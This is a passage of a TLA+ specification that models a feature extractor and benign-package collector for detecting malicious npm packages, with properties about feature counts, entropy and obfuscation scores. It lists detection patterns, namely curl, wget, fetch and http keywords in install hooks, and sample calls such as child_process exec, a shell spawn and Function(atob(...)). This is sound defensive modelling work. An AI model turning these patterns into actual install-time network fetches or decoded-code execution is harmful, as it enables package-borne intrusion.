    /\ printed = {}
    /\ tree_sitter = FALSE
    /\ clock = 0
    /\ sample = NoSample
    /\ runs = 0
    /\ records = <<>>
    /\ call = NoCall
    /\ DatasetIdle

\* the local variables of extract_advanced_features after the loop over js
\* script files, minified of them minified, with base64 and eval matches of
\* the two patterns in all
ScanTotals(js, minified, base64, eval) ==
    [features |->
        IF js = 0 THEN AdvancedDefaults
        ELSE AddCounts(AdvancedDefaults,
                       [SecurityPatterns[""] EXCEPT !.base64_pattern_count = base64,
                                                    !.eval_usage_count = eval]),
     entropies |-> [k \in 1..js |-> One],
     total_files_analyzed |-> js, total_js_files |-> js, minified_files |-> minified,
     total_base64_count |-> base64, total_eval_count |-> eval]

\* the statistics of extract_advanced_features for the totals acc
StatsCall(acc) ==
    [fn |-> "extract_advanced_features", args |-> acc, value |-> AdvancedStats(acc)]

\* the part of extract_advanced_features after the loop, for some totals
CallAdvancedStats ==
    /\ call = NoCall
    /\ \E js \in 0..MaxScripts, minified, base64, eval \in 0..MaxMatches :
          /\ minified <= js
          /\ js = 0 => base64 = 0 /\ eval = 0
          /\ call' = StatsCall(ScanTotals(js, minified, base64, eval))
    /\ UNCHANGED <<mainVars, clock, sample, runs, records, datasetVars>>

\* the same with one more match of the base64 pattern in the script files
RaiseBase64 ==
    /\ call.fn = "extract_advanced_features"
    /\ call.args.total_js_files > 0
    /\ call.args.total_base64_count < MaxMatches
    /\ call' = StatsCall([call.args EXCEPT !.total_base64_count = @ + 1,
                                           !.features.base64_pattern_count = @ + 1])
    /\ UNCHANGED <<mainVars, clock, sample, runs, records, datasetVars>>

\* the same with one more match of the eval pattern in the script files
RaiseEval ==
    /\ call.fn = "extract_advanced_features"
    /\ call.args.total_js_files > 0
    /\ call.args.total_eval_count < MaxMatches
    /\ call' = StatsCall([call.args EXCEPT !.total_eval_count = @ + 1,
                                           !.features.eval_usage_count = @ + 1])
    /\ UNCHANGED <<mainVars, clock, sample, runs, records, datasetVars>>

\* the version strings of the descriptors: versions, and strings Version()
\* rejects with InvalidVersion
VersionStrings ==
    {"1.0.0", "1.0.0-beta", "1.0.01", "1.0.0rc1", "v1.0.0", "1.0", "3", "2.0.0",
     "0.1.0", "0.0.1", "1.2.3", "2.1.0-alpha.1", "1.0.1-rc.2", "0.0.1b", "0.0.0",
     "latest", "", "^1.0.0", "1.0.0-foo", "1.x", "1..0"}

\* the values of the version field of a descriptor: none, null, a number, a string
VersionFields == {Missing, Null, Num} \cup {Str(v) : v \in VersionStrings}

\* the package directories of a date directory at most
MaxDateDirs == 12

\* the listing of a date directory with d directories and f files
DateDirListing(d, f) == [k \in 1..(d + f) |-> k <= d]

\* the date directories: one that is gone, and the listings with the sample
\* (self) as the first directory
DateDirs ==
    {[exists |-> FALSE, entries |-> <<>>, self |-> 0]}
        \cup {[exists |-> TRUE, entries |-> DateDirListing(d, f), self |-> 1] :
                 d \in 1..MaxDateDirs, f \in 0..1}

\* sibling_packages without "d != package_path"
sibling_packages_with_self(date_dir) ==
    {d \in DOMAIN date_dir.entries : date_dir.entries[d]}

\* [d for d in date_dir.iterdir() if d.is_dir() and d != package_path]
sibling_packages(date_dir) ==
    {d \in DOMAIN date_dir.entries : date_dir.entries[d] /\ d # date_dir.self}

\* the parent of a sample as the sibling part sees it
ParentOf(date_dir) ==
    [exists |-> date_dir.exists, siblings |-> Cardinality(sibling_packages(date_dir))]

\* extract_version_analysis_features for a version field of any kind:
\* Version() raises TypeError on a value that is not a string
VersionAnalysis(parent, field) ==
    IF field.kind \notin {"missing", "str"}
    THEN [raised |-> TRUE, features |-> VersionDefaults]
    ELSE [raised |-> FALSE,
          features |-> extract_version_analysis_features(parent, [version |-> field])]

\* extract_version_analysis_features(package_path, package_data)
CallVersionAnalysis ==
    /\ call = NoCall
    /\ \E date_dir \in DateDirs, field \in VersionFields :
          call' = [fn |-> "extract_version_analysis_features",
                   args |-> [date_dir |-> date_dir, version |-> field],
                   value |-> VersionAnalysis(ParentOf(date_dir), field)]
    /\ UNCHANGED <<mainVars, clock, sample, runs, records, datasetVars>>

\* the longest text calculate_entropy is called on
MaxTextLen == 5

EntropySymbols == {"a", "b", "c"}

\* the texts of at most n symbols
RECURSIVE EntropyTexts(_)
EntropyTexts(n) ==
    IF n = 0 THEN {""}
    ELSE LET shorter == EntropyTexts(n - 1)
         IN  shorter \cup {data \o c : data \in shorter, c \in EntropySymbols}

\* calculate_entropy(data)
CallEntropy ==
    /\ call = NoCall
    /\ \E data \in EntropyTexts(MaxTextLen) :
          call' = [fn |-> "calculate_entropy", args |-> data,
                   value |-> calculate_entropy(data)]
    /\ UNCHANGED <<mainVars, clock, sample, runs, records, datasetVars>>

\* the largest number of files of a scan called on its own
MaxScanned == 3

\* the largest number of reorderings of the files of a scan
MaxSwaps == 2

\* the directory listings of at most n files of the pool, in any order
Listings(n) ==
    {files \in UNION {[1..k -> ScanPool] : k \in 0..n} :
        \A i, j \in DOMAIN files : files[i] = files[j] => i = j}

ScanCall(files, TREE_SITTER_AVAILABLE, swaps) ==
    [fn |-> "scan",
     args |-> [files |-> files, TREE_SITTER_AVAILABLE |-> TREE_SITTER_AVAILABLE,
               swaps |-> swaps],
     value |-> extract_advanced_features([files |-> files], TREE_SITTER_AVAILABLE)]

\* extract_advanced_features(package_dir), os.walk yielding the files in
\* some order
CallScan ==
    /\ call = NoCall
    /\ \E files \in Listings(MaxScanned), t \in BOOLEAN :
          call' = ScanCall(files, t, 0)
    /\ UNCHANGED <<mainVars, clock, sample, runs, records, datasetVars>>

\* the same call with two neighbouring files yielded in the other order
SwapScan ==
    /\ call.fn = "scan"
    /\ call.args.swaps < MaxSwaps
    /\ \E k \in 1..(Len(call.args.files) - 1) :
          call' = ScanCall([call.args.files EXCEPT ![k] = call.args.files[k + 1],
                                                  ![k + 1] = call.args.files[k]],
                           call.args.TREE_SITTER_AVAILABLE, call.args.swaps + 1)
    /\ UNCHANGED <<mainVars, clock, sample, runs, records, datasetVars>>

\* the features dict extract_sensitive_code_features starts from and returns
\* when it does not traverse
SensitiveDefaults ==
    [system_command_usage |-> 0, file_access |-> 0, env_variable_access |-> 0,
     network_access |-> 0, crypto_usage |-> 0, data_encoding |-> 0,
     dynamic_code_generation |-> 0]

\* any(part in func_name for part in parts)
AnyIn(parts, func_name) == \E part \in parts : Contains(part, func_name)

\* the chain with every elif an if: each condition that holds increments
SensitiveCategoriesEvery(func_name) ==
    {c \in DOMAIN SensitiveDefaults :
        \/ c = "file_access" /\ Contains("fs.", func_name)
                               /\ AnyIn({"read", "write", "unlink"}, func_name)
        \/ c = "env_variable_access" /\ Contains("process.env", func_name)
        \/ c = "system_command_usage" /\ AnyIn({"exec", "spawn"}, func_name)
        \/ c = "network_access" /\ AnyIn({"http.", "https.", "fetch"}, func_name)
        \/ c = "crypto_usage" /\ Contains("crypto.", func_name)
        \/ c = "dynamic_code_generation"
               /\ AnyIn({"eval", "Function", "setTimeout", "setInterval"}, func_name)
        \/ c = "data_encoding"
               /\ AnyIn({"encodeURIComponent", "decodeURIComponent", "btoa", "atob"},
                        func_name)}

\* the if/elif chain of traverse: the features a call expression with the
\* function text func_name increments
SensitiveCategories(func_name) ==
    IF Contains("fs.", func_name) /\ AnyIn({"read", "write", "unlink"}, func_name)
    THEN {"file_access"}
    ELSE IF Contains("process.env", func_name) THEN {"env_variable_access"}
    ELSE IF AnyIn({"exec", "spawn"}, func_name) THEN {"system_command_usage"}
    ELSE IF AnyIn({"http.", "https.", "fetch"}, func_name) THEN {"network_access"}
    ELSE IF Contains("crypto.", func_name) THEN {"crypto_usage"}
    ELSE IF AnyIn({"eval", "Function", "setTimeout", "setInterval"}, func_name)
    THEN {"dynamic_code_generation"}
    ELSE IF AnyIn({"encodeURIComponent", "decodeURIComponent", "btoa", "atob"},
                  func_name)
    THEN {"data_encoding"}
    ELSE {}

\* a call expression and the text of its function child
CallExpression(function) ==
    [type |-> "call_expression", has_function |-> TRUE, function |-> function]

\* the function texts of the call expressions of the model
FunctionTexts ==
    {"fs.readFileSync", "fs.writeFile(process.env.OUT, d).then",
     "spawn(process.env.SHELL).on", "require('child_process').exec",
     "https.get(url).setTimeout", "crypto.randomBytes",
     "Function(atob(s)).call", "atob", "console.log"}

\* the features each function text of the model increments, computed once
SensitiveIncrements == [f \in FunctionTexts |-> SensitiveCategories(f)]

\* traverse over the nodes of the tree
TraverseSensitive(nodes) ==
    [c \in DOMAIN SensitiveDefaults |->
        Cardinality({k \in DOMAIN nodes :
                        /\ nodes[k].type = "call_expression"
                        /\ nodes[k].has_function
                        /\ c \in SensitiveIncrements[nodes[k].function]})]

\* extract_sensitive_code_features; an exception of the parser or of the
\* traversal returns the zero features
extract_sensitive_code_features(js_code, tree, TREE_SITTER_AVAILABLE) ==
    IF ~TREE_SITTER_AVAILABLE \/ js_code = "" THEN SensitiveDefaults
    ELSE IF tree.raises THEN SensitiveDefaults
    ELSE TraverseSensitive(tree.nodes)

\* the nodes of the syntax trees of the model
SyntaxNodes ==
    {CallExpression(f) : f \in FunctionTexts}
    \cup {[type |-> "call_expression", has_function |-> FALSE, function |-> ""],
          [type |-> "identifier", has_function |-> FALSE, function |-> "eval"]}

\* the largest number of nodes of a syntax tree
MaxNodes == 3

\* the source text of a node
NodeSource(node) ==
    IF node.type = "call_expression" THEN node.function \o "();"
    ELSE node.function \o ";"

RECURSIVE SourceOf(_, _)
SourceOf(nodes, k) ==
    IF k > Len(nodes) THEN "" ELSE NodeSource(nodes[k]) \o SourceOf(nodes, k + 1)

\* extract_sensitive_code_features(js_code)
CallSensitive ==
    /\ call = NoCall
    /\ \E nodes \in UNION {[1..n -> SyntaxNodes] : n \in 0..MaxNodes},
          raises, t \in BOOLEAN :
          call' = [fn |-> "extract_sensitive_code_features",
                   args |-> [js_code |-> SourceOf(nodes, 1),
                             tree |-> [nodes |-> nodes, raises |-> raises],
                             TREE_SITTER_AVAILABLE |-> t],
                   value |-> extract_sensitive_code_features(
                                 SourceOf(nodes, 1),
                                 [nodes |-> nodes, raises |-> raises], t)]
    /\ UNCHANGED <<mainVars, clock, sample, runs, records, datasetVars>>

CallNext ==
    \/ CallSensitive
    \/ CallScan
    \/ SwapScan
    \/ CallAdvancedStats
    \/ CallVersionAnalysis
    \/ CallEntropy
    \/ RaiseBase64
    \/ RaiseEval

CallSpec == CallInit /\ [][CallNext]_vars

(***************************************************************************)
(* The benign collector (Dataset/collect_benign_npm.py): the daily log and *)
(* the collection cycles of one day.                                       *)
(***************************************************************************)

\* str.find: the first position of sep in s, 0 when there is none
FindFirst(s, sep) ==
    IF Contains(sep, s)
    THEN CHOOSE i \in 1..Len(s) :
            StartsAt(s, sep, i) /\ \A j \in 1..(i - 1) : ~StartsAt(s, sep, j)
    ELSE 0

\* s.split(sep, maxsplit)
RECURSIVE SplitMax(_, _, _)
SplitMax(s, sep, maxsplit) ==
    LET i == FindFirst(s, sep)
    IN  IF maxsplit = 0 \/ i = 0 THEN <<s>>
        ELSE <<SubSeq(s, 1, i - 1)>>
             \o SplitMax(SubSeq(s, i + Len(sep), Len(s)), sep, maxsplit - 1)

\* s.split(sep)[0]
SplitFirst(s, sep) ==
    LET i == FindFirst(s, sep) IN IF i = 0 THEN s ELSE SubSeq(s, 1, i - 1)

\* s.strip()
RECURSIVE Strip(_)
Strip(s) ==
    IF s = "" THEN s
    ELSE IF CharAt(s, 1) \in Whitespace THEN Strip(SubSeq(s, 2, Len(s)))
    ELSE IF CharAt(s, Len(s)) \in Whitespace THEN Strip(SubSeq(s, 1, Len(s) - 1))
    ELSE s

\* the line write_to_log appends at the time timestamp, which is
\* datetime.now().strftime("%Y-%m-%d %H:%M:%S"); an empty error_msg is falsy
log_entry(timestamp, status, pkg_version_string, error_msg) ==
    IF error_msg # ""
    THEN timestamp \o " " \o status \o ": " \o pkg_version_string \o " - "
         \o error_msg \o "\n"
    ELSE timestamp \o " " \o status \o ": " \o pkg_version_string \o "\n"

\* write_to_log: the log file opened for appending
write_to_log(log, timestamp, status, pkg_version_string, error_msg) ==
    Append(log, log_entry(timestamp, status, pkg_version_string, error_msg))

\* the string the loop of main over the log lines adds for one line, if any:
\* parts = line.split(':', 3), parts[2].strip().split(' - ')[0].strip()
ProcessedString(line) ==
    LET parts == SplitMax(line, ":", 3)
    IN  IF Contains(":", line) /\ Len(parts) >= 3
        THEN [added |-> TRUE, pkg_str |-> Strip(SplitFirst(Strip(parts[3]), " - "))]
        ELSE [added |-> FALSE, pkg_str |-> ""]

\* the name@version strings the registry offers
PackageVersions == <<"lodash@4.17.21", "@babel/core@7.24.0">>

\* the times of day the log lines are written at
Timestamps == {"2024-05-01 09:00:00", "2024-05-01 10:30:07"}

\* the ways download_and_extract_package ends: the status and the message
\* it logs, and whether it reports success
DownloadResults ==
    {[status |-> "SUCCESS", error_msg |-> "Meets criteria: install scripts",
      success |-> TRUE],
     [status |-> "FILTERED", error_msg |-> "Failed criteria: no features",
      success |-> FALSE],
     [status |-> "FAILED", error_msg |-> "Timeout", success |-> FALSE],
     [status |-> "ERROR", error_msg |-> "", success |-> FALSE]}

\* the lines the model writes, and what the loop of main reads from each,
\* computed once
LogEntries ==
    {log_entry(t, r.status, PackageVersions[k], r.error_msg) :
        t \in Timestamps, r \in DownloadResults, k \in DOMAIN PackageVersions}

ProcessedStrings == [line \in LogEntries |-> ProcessedString(line)]

\* processed_packages of main after the loop over the lines of the log
processed_packages(log) ==
    {ProcessedStrings[log[k]].pkg_str :
        k \in {j \in DOMAIN log : ProcessedStrings[log[j]].added}}

\* new_versions of main: the versions whose string is not in processed_packages
RECURSIVE NewVersions(_, _, _)
NewVersions(all_versions, processed, k) ==
    IF k > Len(all_versions) THEN <<>>
    ELSE IF all_versions[k] \notin processed
    THEN <<all_versions[k]>> \o NewVersions(all_versions, processed, k + 1)
    ELSE NewVersions(all_versions, processed, k + 1)

\* the collection cycles of the day
MaxCycles == 2

\* the versions get_package_versions may return in one cycle
VersionLists ==
    {<<>>, <<PackageVersions[1]>>, <<PackageVersions[2]>>, PackageVersions}

CollectorInit ==
    /\ pc = "collector"
    /\ entries = <<>>
    /\ dirs = 0
    /\ listed = 0
    /\ package_dirs = 0
    /\ combined_writer = NoWriter
    /\ rows = EmptyBag
    /\ processed_count = 0
    /\ outcomes = EmptyBag
    /\ continued = 0
    /\ printed = {}
    /\ tree_sitter = FALSE
    /\ clock = 0
    /\ sample = NoSample
    /\ runs = 0
    /\ records = <<>>
    /\ call = NoCall
    /\ daily_log = <<>>
    /\ attempts = EmptyBag
    /\ cycles = 0
    /\ new_versions = <<>>
    /\ max_packages = 0
    /\ days_ago = 0
    /\ current_from_index = 0
    /\ all_packages = 0
    /\ search = "idle"

\* one pass of the while loop of main up to the download loop: the log of
\* the day is read back and the versions not yet processed are kept
StartCycle ==
    /\ pc = "collector"
    /\ new_versions = <<>>
    /\ cycles < MaxCycles
    /\ \E all_versions \in VersionLists :
          new_versions' = NewVersions(all_versions, processed_packages(daily_log), 1)
    /\ cycles' = cycles + 1
    /\ UNCHANGED <<mainVars, clock, sample, runs, records, call, daily_log, attempts,
                   max_packages, days_ago, current_from_index, all_packages, search>>

\* download_and_extract_package for the next version of the download loop:
\* npm pack runs and one line is written to the log
Download ==
    /\ pc = "collector"
    /\ new_versions # <<>>
    /\ \E timestamp \in Timestamps, result \in DownloadResults :
          daily_log' = write_to_log(daily_log, timestamp, result.status,
                                    Head(new_versions), result.error_msg)
    /\ attempts' = attempts (+) SetToBag({Head(new_versions)})
    /\ new_versions' = Tail(new_versions)
    /\ UNCHANGED <<mainVars, clock, sample, runs, records, call, cycles,
                   max_packages, days_ago, current_from_index, all_packages, search>>

CollectorNext == StartCycle \/ Download

CollectorSpec == CollectorInit /\ [][CollectorNext]_vars

(***************************************************************************)
(* get_popular_packages of the benign collector.                           *)
(***************************************************************************)

PACKAGES_PER_PAGE == 250

\* days_back: the search dates are today and the days_back days before it
DaysBack == 1

\* the registry holds at most MaxPages full pages of results for one date
MaxPages == 2

\* the values of max_packages of the model
MaxPackagesChoices == {1, 2, 150}

\* the sizes of the objects list of a response of the model
PageSizes == {0, 1, PACKAGES_PER_PAGE}

\* the responses of the registry to the request from the offset from_index:
\* a status code, the number of packages of the page and how many of them
\* have a final score above 0.5; raised stands for an exception of
\* requests.get or response.json
Responses(from_index) ==
    {[raised |-> TRUE, status_code |-> 0, packages |-> 0, high_score |-> 0]}
    \cup {[raised |-> FALSE, status_code |-> s, packages |-> 0, high_score |-> 0] :
             s \in {429, 500}}
    \cup {[raised |-> FALSE, status_code |-> 200, packages |-> p[1],
            high_score |-> p[2]] :
             p \in {q \in PageSizes \X PageSizes :
                       /\ q[2] <= q[1]
                       /\ from_index + q[1] <= MaxPages * PACKAGES_PER_PAGE}}

RateLimitMessage == "Rate limit hit, waiting 5 seconds..."

\* all_packages[:max_packages * 2] without the slice
ReturnedUnsliced(packages_len, max) == packages_len

\* the length of all_packages[:max_packages * 2]
ReturnedPackages(packages_len, max) == Min(packages_len, max * 2)

\* the variables get_popular_packages leaves alone
searchUnchanged ==
    <<pc, entries, dirs, listed, package_dirs, combined_writer, rows, processed_count,
      outcomes, continued, tree_sitter, clock, sample, runs, records, call,
      daily_log, attempts, cycles, new_versions, max_packages>>

SearchInit ==
    /\ pc = "get_popular_packages"
    /\ entries = <<>>
    /\ dirs = 0
    /\ listed = 0
    /\ package_dirs = 0
    /\ combined_writer = NoWriter
    /\ rows = EmptyBag
    /\ processed_count = 0
    /\ outcomes = EmptyBag
    /\ continued = 0
    /\ printed = {}
    /\ tree_sitter = FALSE
    /\ clock = 0
    /\ sample = NoSample
    /\ runs = 0
    /\ records = <<>>
    /\ call = NoCall
    /\ daily_log = <<>>
    /\ attempts = EmptyBag
    /\ cycles = 0
    /\ new_versions = <<>>
    /\ max_packages \in MaxPackagesChoices
    /\ days_ago = 0
    /\ current_from_index = 0
    /\ all_packages = 0
    /\ search = "date"

\* the head of the for loop over the dates: the loop ends after the last
\* date or when all_packages is long enough, and the slice is returned;
\* otherwise the paging loop of the date starts at offset 0
NextDate ==
    /\ search = "date"
    /\ IF days_ago > DaysBack \/ all_packages >= max_packages * 2
       THEN /\ search' = "returned"
            /\ all_packages' = ReturnedPackages(all_packages, max_packages)
            /\ UNCHANGED current_from_index
       ELSE /\ search' = "request"
            /\ current_from_index' = 0
            /\ UNCHANGED all_packages
    /\ UNCHANGED <<searchUnchanged, printed, days_ago>>

\* one pass of the paging loop: the request and what follows its response
Request ==
    /\ search = "request"
    /\ \E response \in Responses(current_from_index) :
          IF response.raised
          THEN /\ search' = "date"
               /\ days_ago' = days_ago + 1
               /\ UNCHANGED <<all_packages, current_from_index, printed>>
          ELSE IF response.status_code = 429
          THEN /\ search' = "rate_limited"
               /\ printed' = printed \cup {RateLimitMessage}
               /\ UNCHANGED <<all_packages, current_from_index, days_ago>>
          ELSE IF response.status_code # 200 \/ response.packages = 0
          THEN /\ search' = "date"
               /\ days_ago' = days_ago + 1
               /\ UNCHANGED <<all_packages, current_from_index, printed>>
          ELSE /\ all_packages' = all_packages + response.high_score
               /\ current_from_index' = current_from_index + response.packages
               /\ IF response.packages < PACKAGES_PER_PAGE
                     \/ all_packages' >= max_packages * 2
                  THEN search' = "date" /\ days_ago' = days_ago + 1
                  ELSE search' = "request" /\ UNCHANGED days_ago
               /\ UNCHANGED printed
    /\ UNCHANGED searchUnchanged

\* time.sleep(5) is over and the continue statement repeats the request
Retry ==
    /\ search = "rate_limited"
    /\ search' = "request"
    /\ UNCHANGED <<searchUnchanged, printed, days_ago, current_from_index,
                   all_packages>>

SearchNext == NextDate \/ Request \/ Retry

\* the interpreter keeps running the one thread of the program: every
\* request has a timeout and every sleep ends
SearchSpec == SearchInit /\ [][SearchNext]_vars /\ WF_vars(SearchNext)

(***************************************************************************)
(* Properties.                                                             *)
(***************************************************************************)

\* C1: every record extract_all_features returns has exactly the keys of the
\* canonical schema, the 52 declared features and the three provenance
\* fields, whatever failed and whether or not a script file was analyzed.
C1_CanonicalKeySet ==
    \A i \in DOMAIN records :
        DOMAIN records[i] =
            (DOMAIN get_default_features)
                \cup {"package_type", "collection_date", "analysis_timestamp"}

\* C2: within a run the header is the key set of the first record written
\* and every later record has exactly that key set: no row is rejected by
\* the writer and no row is written with empty columns.
C2_HeaderShapeFixed ==
    /\ \A row \in BagToSet(rows) : row.columns = combined_writer.fieldnames
    /\ CopiesIn("row rejected", outcomes) = 0

\* C3: a package directory that fails does not end the batch: every package
\* directory the listings of the run have yielded has been attempted or is
\* still to come, and at the end of the run all of them have been attempted.
C3_BatchContinues ==
    BagCardinality(outcomes) + Cardinality({i \in DOMAIN entries : entries[i]})
        = package_dirs

\* C3: the run ended after an extraction had raised and a row had been
\* rejected, and package directories were attempted after a failure.
C3_ContinuedAfterFailure ==
    /\ pc = "done"
    /\ continued > 1
    /\ CopiesIn("extraction raised", outcomes) > 0
    /\ CopiesIn("row rejected", outcomes) > 0
    /\ CopiesIn("written", outcomes) > 0

C5_OneRowPerRecord ==
    /\ processed_count = BagCardinality(rows)
    /\ BagCardinality(rows) =
          BagCardinality(outcomes) - CopiesIn("extraction raised", outcomes)

C7_RaisedInstallIsDefault ==
    \A i \in DOMAIN records :
        InstallScriptAnalysis(sample.package).raised =>
            \A k \in DOMAIN InstallDefaults : records[i][k] = InstallDefaults[k]

\* C8: when the scripts map of the descriptor has an install-related hook
\* whose text contains curl, wget, fetch or http, the record has
\* has_install_command = 1 and network_in_install_script >= 1; when it has no
\* install-related hook, has_install_command and the six counts are 0.
C8_NetworkInInstallHook ==
    \A i \in DOMAIN records :
        LET at == find_package_json(sample.package)
            json == sample.package.files[at].json
            hooks == IF at # 0 /\ json.kind = "object" /\ json.scripts.kind = "map"
                     THEN InstallScripts(json.scripts.items)
                     ELSE <<>>
            network(text) == \E keyword \in {"curl", "wget", "fetch", "http"} :
                                 Contains(keyword, Lower(text))
        IN  /\ (\E h \in DOMAIN hooks : hooks[h].isStr /\ network(hooks[h].text)) =>
                  /\ records[i].has_install_command = 1
                  /\ records[i].network_in_install_script >= 1
            /\ hooks = <<>> =>
                  \A k \in DOMAIN InstallDefaults : records[i][k] = 0

\* C9: when the descriptor parses, the install-script features of the record
\* are those of the descriptor alone: they are the same whether or not
\* extract_basic_features fell back to its defaults, whatever the other
\* files of the package are and whether or not they could be read or parsed.
C9_InstallFromDescriptorOnly ==
    \A i \in DOMAIN records :
        LET at == find_package_json(sample.package)
            descriptor == sample.package.files[at]
        IN  (at # 0 /\ descriptor.json.kind = "object") =>
                [k \in DOMAIN InstallDefaults |-> records[i][k]] =
                    InstallScriptFeatures[[sample EXCEPT
                                              !.package = [files |-> <<descriptor>>]]]

\* C9: a record with install-script counts of a package for which
\* extract_basic_features fell back to its defaults and of which a source
\* file could not be read.
C9_InstallDespiteFallback ==
    /\ runs > 0
    /\ BasicRaises(sample.package)
    /\ \E f \in DOMAIN sample.package.files :
          /\ ~sample.package.files[f].readable
          /\ IsScriptFile(BaseName(sample.package.files[f].path))
    /\ records[1].has_install_command = 1
    /\ records[1].network_in_install_script > 0
    /\ records[1].file_count = 0

\* C10: when the script files of the sample that are analyzed are all
\* syntactically invalid, the syntax tree adds nothing: password_access and
\* cookie_access of the record are the lexical counts of those files, which
\* are still computed.
C10_InvalidScriptLexicalOnly ==
    \A i \in DOMAIN records :
        LET files == sample.package.files
            scripts == {f \in DOMAIN files :
                            /\ IsScriptFile(BaseName(files[f].path))
                            /\ Len(read_file(files[f])) > MinContentLen}
            lexical(f) == extract_granular_security_patterns(read_file(files[f]))
        IN  (scripts # {} /\ \A f \in scripts : ~files[f].tree.valid) =>
                \E f \in scripts :
                    /\ scripts = {f}
                    /\ records[i].cookie_access = lexical(f).cookie_access
                    /\ records[i].password_access = lexical(f).password_access
                    /\ records[i].base64_pattern_count = lexical(f).base64_pattern_count

\* C11: obfuscation_score lies in [0, 1], and a step that raises
\* base64_density or eval_density and leaves the other inputs of the score
\* as they are does not lower it.
C11_ScoreClampedMonotone ==
    /\ [](call.fn = "extract_advanced_features" =>
              /\ FracLeq(<<0, 1>>, call.value.obfuscation_score)
              /\ FracLeq(call.value.obfuscation_score, <<1, 1>>))
    /\ [][(/\ call.fn = "extract_advanced_features"
           /\ call'.fn = "extract_advanced_features"
           /\ call'.value.minified_ratio = call.value.minified_ratio
           /\ FracLeq(call.value.base64_density, call'.value.base64_density)
           /\ FracLeq(call.value.eval_density, call'.value.eval_density)) =>
              FracLeq(call.value.obfuscation_score, call'.value.obfuscation_score)]_vars

\* C11: a score strictly between 0 and 1 with both densities raised above 0.
C11_ScoreBelowOne ==
    /\ call.fn = "extract_advanced_features"
    /\ call.value.obfuscation_score \notin {<<0, 1>>, <<1, 1>>}
    /\ call.value.base64_density # <<0, 1>>
    /\ call.value.eval_density # <<0, 1>>

\* C12: version_velocity is min(sibling_count / 10, 1.0): 0 without sibling
\* directories, sibling_count / 10 and below 1 for fewer than 10 of them, 1
\* for 10 or more, and never above 1.
C12_VelocityClamped ==
    (/\ call.fn = "extract_version_analysis_features"
     /\ call.args.date_dir.exists
     /\ ~call.value.raised) =>
        LET listing == call.args.date_dir.entries
            sibling_count == Cardinality({d \in DOMAIN listing : listing[d]}) - 1
            velocity == call.value.features.version_velocity
        IN  /\ sibling_count = 0 => velocity = <<0, 1>>
            /\ sibling_count < 10 =>
                  /\ velocity[1] * 10 = sibling_count * velocity[2]
                  /\ velocity[1] < velocity[2]
            /\ sibling_count >= 10 => velocity = <<1, 1>>
            /\ velocity[1] <= velocity[2]

\* C12: the velocity of a sample with more than 10 sibling directories.
C12_ManySiblings ==
    /\ call.fn = "extract_version_analysis_features"
    /\ Cardinality(sibling_packages(call.args.date_dir)) > 10
    /\ call.value.features.version_velocity = <<1, 1>>

\* C13: when package.json is missing or is not valid JSON, the
\* descriptor-dependent features of the record are the defaults of the
\* default record: the dependency, script and hook features are 0 and the
\* version features are is_first_version = 1 and update_type = 0.
C13_NoDescriptorDefaults ==
    \A i \in DOMAIN records :
        LET at == find_package_json(sample.package)
            descriptor == sample.package.files[at]
        IN  (at = 0 \/ (descriptor.readable /\ descriptor.json.kind = "invalid")) =>
                /\ \A k \in {"dependencies_count", "scripts_count", "has_preinstall",
                              "has_postinstall", "has_install_script",
                              "suspicious_dependencies_count",
                              "total_dependencies_count", "is_first_version",
                              "update_type"} :
                      records[i][k] = get_default_features[k]
                /\ \A k \in DOMAIN InstallDefaults :
                      records[i][k] = get_default_features[k]

C15_EntropyZeroIffOneSymbol ==
    call.fn = "calculate_entropy" =>
        LET data == call.args
            symbols == {CharAt(data, i) : i \in 1..Len(data)}
        IN  /\ Cardinality(symbols) <= 1 => call.value = 0
            /\ Cardinality(symbols) >= 2 => call.value > 0

\* C15: the entropy of a content that repeats one symbol several times.
C15_RepeatedSymbol ==
    /\ call.fn = "calculate_entropy"
    /\ Len(call.args) >= 3
    /\ Cardinality({CharAt(call.args, i) : i \in 1..Len(call.args)}) = 1
    /\ call.value = 0

\* C16: the aggregate features of a sample are the same for every order in
\* which its files are scanned.
C16_ScanOrderIndependent ==
    [][(call.fn = "scan" /\ call'.fn = "scan") => call'.value = call.value]_vars

\* C16 as amended: the counts, max_entropy, the ratios, the densities and
\* obfuscation_score are the same for every order in which the files are
\* scanned; avg_entropy and entropy_variance are sums of floats taken in scan
\* order and may differ between two orders.
C16_OrderIndependentButFloatSums ==
    [][(call.fn = "scan" /\ call'.fn = "scan") =>
          /\ DOMAIN call'.value = DOMAIN call.value
          /\ \A k \in DOMAIN call.value \ {"avg_entropy", "entropy_variance"} :
                call'.value[k] = call.value[k]]_vars

\* C16: three files and a script scanned in an order reached by reordering.
C16_Reordered ==
    /\ call.fn = "scan"
    /\ call.args.swaps > 0
    /\ Len(call.args.files) = 3
    /\ call.value.max_entropy > call.value.avg_entropy
    /\ "cookie_access" \in DOMAIN call.value

\* the order of the capability categories: file access, environment access,
\* process execution, network access, cryptographic usage, dynamic code
\* generation, data encoding
C17_Order ==
    <<"file_access", "env_variable_access", "system_command_usage",
      "network_access", "crypto_usage", "dynamic_code_generation", "data_encoding">>

\* the categories whose condition each function text of the model matches
C17_Matches == [f \in FunctionTexts |-> SensitiveCategoriesEvery(f)]

\* C17: each call expression increments at most one capability category,
\* the first in the fixed order whose condition its function text matches;
\* so each category counts the call expressions it is the first match of,
\* and the seven counts sum to at most the number of call expressions.
C17_FirstMatchOnly ==
    call.fn = "extract_sensitive_code_features" =>
        LET nodes == call.args.tree.nodes
            calls == {k \in DOMAIN nodes : nodes[k].type = "call_expression"}
            matched(k) == {i \in DOMAIN C17_Order :
                              /\ nodes[k].has_function
                              /\ C17_Order[i] \in C17_Matches[nodes[k].function]}
            first(k) == {i \in matched(k) : \A j \in matched(k) : i <= j}
            traversed == /\ call.args.TREE_SITTER_AVAILABLE
                         /\ call.args.js_code # ""
                         /\ ~call.args.tree.raises
        IN  /\ \A i \in DOMAIN C17_Order :
                  call.value[C17_Order[i]] =
                      IF traversed THEN Cardinality({k \in calls : i \in first(k)})
                      ELSE 0
            /\ SumOver(call.value, DOMAIN call.value) <= Cardinality(calls)

\* C17: a traversed file with a call expression that matches two categories
\* and fewer counted categories than call expressions.
C17_TwoCategoriesOneCount ==
    /\ call.fn = "extract_sensitive_code_features"
    /\ call.value.network_access = 1
    /\ call.value.dynamic_code_generation = 0
    /\ \E k \in DOMAIN call.args.tree.nodes :
          /\ call.args.tree.nodes[k].has_function
          /\ Cardinality(C17_Matches[call.args.tree.nodes[k].function]) = 2
    /\ SumOver(call.value, DOMAIN call.value) = 2
    /\ Len(call.args.tree.nodes) = 3

\* C18: the sibling count is the number of directories of the date directory
\* other than the sample itself; has_other_versions_today = 1 exactly when
